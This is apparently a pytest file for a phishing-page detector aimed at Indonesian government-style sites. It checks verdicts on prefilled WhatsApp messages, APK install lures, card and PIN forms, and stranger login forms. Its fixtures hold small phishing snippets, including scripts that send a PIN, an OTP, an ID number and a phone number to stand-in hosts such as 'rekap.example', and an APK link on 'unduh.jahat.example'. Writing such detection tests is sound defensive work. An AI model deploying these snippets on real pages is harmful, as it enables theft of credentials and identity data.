"""Secrets that no office asks for, and what offices ask for that looks like them."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome, Verdict
from tests.checks.content.phishing_pages import judged
from tests.checks.content.reading import linked, site, small

PLAIN = site()
BLANKS = "NIK%3A%0ANama%20ibu%20kandung%3A%0AKode%20yang%20masuk%20SMS%3A"
CARD = "<input name=ccnum> <input name=cvv> <input name=exp>"
MPIN = "PIN <input name=pin>"
WALLET = "<p>PIN kamu <input type=password name=pin><p>Kode verifikasi dari SMS <input name=otp>"
SENDS = (
    "<script>function k(){var x=new XMLHttpRequest;x.open('POST','k.php');"
    "x.send('p='+pin.value+'&o='+otp.value)}</script>"
)


def inner(source: str, path: str = "uploads/x/a.html") -> Verdict:
    return judged(PLAIN, linked((path, source)))


def message(text: str, to: str = "https://wa.me/6281200000000") -> str:
    return site(f'<p><a href="{to}?text={text}">Percepatan pencairan</a></p>')


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        (message(BLANKS), "code"),
        (message("PIN%20ATM%3A%0ANo%20rekening%3A"), "code"),
        # Offices let people begin a message with who they are.
        (message("Nama%3A%0ANIK%3A%0AAlamat%3A%0AKeperluan%3A"), "clean"),
        (message("Halo%20admin%2C%20kode%20OTP%20saya%20tidak%20masuk"), "clean"),
        (message("Jangan%20berikan%20kode%20OTP%20dan%20nomor%20rekening"), "clean"),
        (message(BLANKS, "https://www.contohkab.go.id/kirim"), "clean"),
        (message("Pencairan%20rekening%0ANama%0AKode%20OTP"), "code"),
        (message("Nama%20ibu%20kandung%20...%20OTP%20..."), "code"),
        # Whoever has trouble with a code writes of it, and has no blank for it.
        (
            message("Halo%20admin%2C%20kode%20OTP%20untuk%20rekening%20saya%20tidak%20masuk"),
            "clean",
        ),
        (message("Lapor%3A%20kartu%20ATM%20tertelan%20dan%20PIN%20lupa.%20Nama%3A"), "clean"),
        (message("Kode%20OTP%20rekening%20tidak%20masuk%3A%0ANama%3A"), "clean"),
        (message("Rekening%20bansos%20kosong%2C%20PIN%20saya%20tukar.%20Nama%3A"), "clean"),
        (message("Nomor%20rekening%3A%0ASaya%20mau%20tanya%20tentang%20kode%20OTP"), "clean"),
    ],
)
def test_messages_with_blanks_for_codes(source: str, kind: str) -> None:
    assert judged(source).message == kind


APK = '<p>Surat ini berlaku setelah dipasang.</p><a href="https://{}/rm.apk">Pasang</a>'


@pytest.mark.parametrize(
    ("source", "path", "kind"),
    [
        (small(APK.format("unduh.jahat.example")), "storage/lampiran/surat.html", "install"),
        # Among pages of the site, where pages belong, or for the office.
        (site(APK.format("unduh.jahat.example")), "storage/lampiran/surat.html", "clean"),
        (small(APK.format("unduh.jahat.example")), "aplikasi/surat", "clean"),
        (small(APK.format("unduh.vendor.example/contohkab")), "storage/a/b.html", "clean"),
    ],
)
def test_a_page_that_is_there_for_a_strangers_application(
    source: str, path: str, kind: str
) -> None:
    assert inner(source, path).message == kind


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        (small(f"<form method=post action=simpan.php>{CARD}{MPIN}</form>"), "posed"),
        (small(f"{WALLET}<button onclick=k()>Klaim</button>{SENDS}"), "posed"),
        # A till asks for the card; a lesson sends nothing, or says what it is.
        (small(f"<form method=post action=/bayar>{CARD}</form>"), "clean"),
        (small(WALLET), "clean"),
        (small(f"{WALLET}{SENDS}", title="Latihan: cari"), "clean"),
        (site(f"{WALLET}<button onclick=k()>Masuk</button>{SENDS}"), "clean"),
    ],
)  # fmt: skip
def test_what_only_a_bank_or_a_wallet_knows(source: str, kind: str) -> None:
    assert inner(source, "unduhan/umum/a.html").message == kind


def login(to: str) -> str:
    return f'<form method=post action="{to}"><input name=e><input type=password name=p></form>'


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        (small(login("https://masuk-kuota.example/p")), "lure"),
        # A login at a firm's host, or one with a way back into the site.
        (small(login("https://simrs.example/login/index")), "outside"),
        (small(f"<a href=/>Beranda</a>{login('https://masuk-kuota.example/p')}"), "outside"),
    ],
)
def test_a_password_for_a_stranger_on_a_page_that_stands_alone(source: str, kind: str) -> None:
    assert inner(source, "brosur/kuota/index.html").message == kind


def test_a_front_page_may_be_nothing_but_a_firms_login() -> None:
    assert judged(small(login("https://simrs.example/p"))).message == "outside"


CHAT = (
    "<form onsubmit='return k(this)'><input name=nik><input name=hp></form><script>function k(f){{"
    "{}location.href='{}?start='+f.hp.value;return false}}</script>"
)
BEACON = "navigator.sendBeacon('https://{}/t.php',f.nik.value+'|'+f.hp.value);"


@pytest.mark.parametrize(
    ("sends", "to", "kind"),
    [
        (BEACON.format("rekap.example"), "https://t.me/verif_bot", "chat"),
        (BEACON.format("rekap.example"), "https://wa.me/628", "chat"),
        # To nobody but the messenger, the site itself, or no messenger.
        ("", "https://wa.me/628", "clean"),
        (BEACON.format("www.contohkab.go.id"), "https://wa.me/628", "clean"),
    ],
)
def test_what_is_typed_goes_to_a_stranger_and_on_to_a_messenger(
    sends: str, to: str, kind: str
) -> None:
    verdict = judged(site(CHAT.format(sends, to)))
    assert verdict.message == kind
    assert (verdict.outcome is Outcome.FAIL) is (kind == "chat")


WRITES = (
    "<form onsubmit='return k(this)'><input name=nama><input name=hp><textarea name=pesan>"
    "</textarea></form><script>function k(f){fetch('https://rekap.example/f/x',{method:'POST',"
    "mode:'no-cors',body:new FormData(f)});window.open('https://wa.me/628?text='+f.nama.value);"
    "return false}</script>"
)


def test_whoever_writes_to_an_office_says_name_and_number() -> None:
    assert judged(site(WRITES)).message == "clean"
    # Who somebody is, is more than that.
    for more in ("<input name=nik><input name=ibu_kandung><input name=no_kk>", "<input name=pin>"):
        assert judged(site(WRITES.replace("<textarea", f"{more}<textarea"))).message == "chat"
